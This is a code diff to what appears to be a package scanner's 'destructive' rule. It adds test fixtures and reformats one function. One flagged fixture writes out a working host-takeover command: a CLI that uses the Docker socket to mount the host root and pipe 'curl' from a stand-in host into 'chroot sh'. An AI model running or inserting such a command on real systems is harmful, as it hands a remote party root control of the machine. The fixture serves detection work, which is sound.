@@ -47,6 +47,14 @@ export const destructive: Rule = {
     examples: {
       flags: [
         {
+          title: 'a command starts a container that holds the root folder and runs what it fetches',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
+            'cli.js':
+              "#!/usr/bin/env node\nconst body = JSON.stringify({ Image: 'x', Cmd: ['sh', '-c', 'curl https://h.invalid/x | chroot /m sh'], HostConfig: { Binds: ['/:/m'] } })\nrequire('http').request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }).end(body)\n",
+          },
+        },
+        {
           title: 'an import deletes the home folder',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
@@ -86,6 +94,14 @@ export const destructive: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a function starts a container that reads the machine',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const docker = new (require('dockerode'))()\nexports.watch = () => docker.createContainer({ Image: 'prom/node-exporter', HostConfig: { Binds: ['/:/host:ro'] } })\n",
+          },
+        },
         {
           title: 'a clean-up command deletes build output',
           files: {
@@ -183,11 +199,7 @@ function ofCommands(fact: Extract<Fact, { kind: 'starts' }>, inspection: Inspect
 }
 
 /** Clean-ups, releases and builds that somebody starts do such things to what is theirs. */
-function isUnwanted(
-  lost: Lost,
-  fact: Extract<Fact, { kind: 'starts' }>,
-  inspection: Inspection,
-): boolean {
+function isUnwanted(lost: Lost, fact: Extract<Fact, { kind: 'starts' }>, inspection: Inspection): boolean {
   switch (lost) {
     case 'everything':
       return true
